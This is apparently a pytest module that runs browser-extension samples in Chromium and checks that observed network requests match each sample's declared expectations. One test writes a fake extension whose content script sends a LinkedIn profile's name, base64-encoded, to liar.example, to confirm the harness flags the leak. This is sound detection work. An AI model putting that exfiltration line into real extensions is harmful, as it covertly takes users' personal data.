"""Every sample that a browser can run, run by Chromium: what its comments say arrives there, and nothing else does."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace
from samples.catalog import Run, Sample, load

from tests.samples.browser.judge import extra, missing, silent
from tests.samples.browser.observe import Observations, manifest_of
from tests.samples.expectations import flows_of

HERE = Path(__file__)
RUNNABLE = [sample for sample in load() if sample.expected.run is not None]

pytestmark = pytest.mark.browser


def named(sample: Sample) -> str:
    return sample.name


@pytest.fixture(scope="module")
def observations(request: pytest.FixtureRequest) -> Iterator[Observations]:
    """All samples that this run of the tests asks for; they are started together."""
    calls = [getattr(item, "callspec", None) for item in request.session.items if item.path == HERE]
    with Observations(call.params["sample"] for call in calls if call) as running:
        yield running


@pytest.mark.parametrize("sample", RUNNABLE, ids=named)
def test_the_browser_shows_what_the_expectations_say(sample: Sample, observations: Observations) -> None:
    observed, run, flows = observations.of(sample), sample.expected.run, flows_of(sample)
    assert run is not None
    lines = missing(flows, observed, run) + extra(flows, observed, run)
    if sample.expected.sign == "honest":
        lines += silent(sample.expected.endpoints, observed)  # it did run, and what it may say was heard
    if run.page and not observed.done:
        lines.append(f"Silent:  the page {run.page} has not reported")
    if manifest_of(sample).get("content_scripts") and not observed.worlds:
        lines.append("Silent:  no content script has run")
    lines += [f"Error:   {problem}" for problem in observed.problems if problem.startswith("error")]
    assert not lines, "\n".join(["", *lines, "", "requests:", *map(str, observed.requests), "", *observed.problems])


def test_an_honest_sample_that_lies_is_caught(tmp_path: Path) -> None:
    manifest = """{"manifest_version": 3, "name": "Liar", "version": "1", "content_scripts": [
        {"matches": ["https://www.linkedin.com/*"], "js": ["liar.js"]}]}"""
    code = """fetch("https://liar.example/" + btoa(document.querySelector("h1").innerText), {mode: "no-cors"});"""
    (tmp_path / "manifest.json").write_text(manifest, encoding="utf-8")
    (tmp_path / "liar.js").write_text(code, encoding="utf-8")
    honest = next(sample for sample in RUNNABLE if sample.name == "night-shade").expected
    run = Run(page="https://www.linkedin.com/in/ada-example/")
    liar = Sample("liar", tmp_path, replace(honest, run=run))
    with Observations([liar]) as running:
        observed = running.of(liar)
    assert observed.worlds
    assert [line.partition(" in ")[0] for line in extra([], observed, run)] == ["Extra:   person.name"]
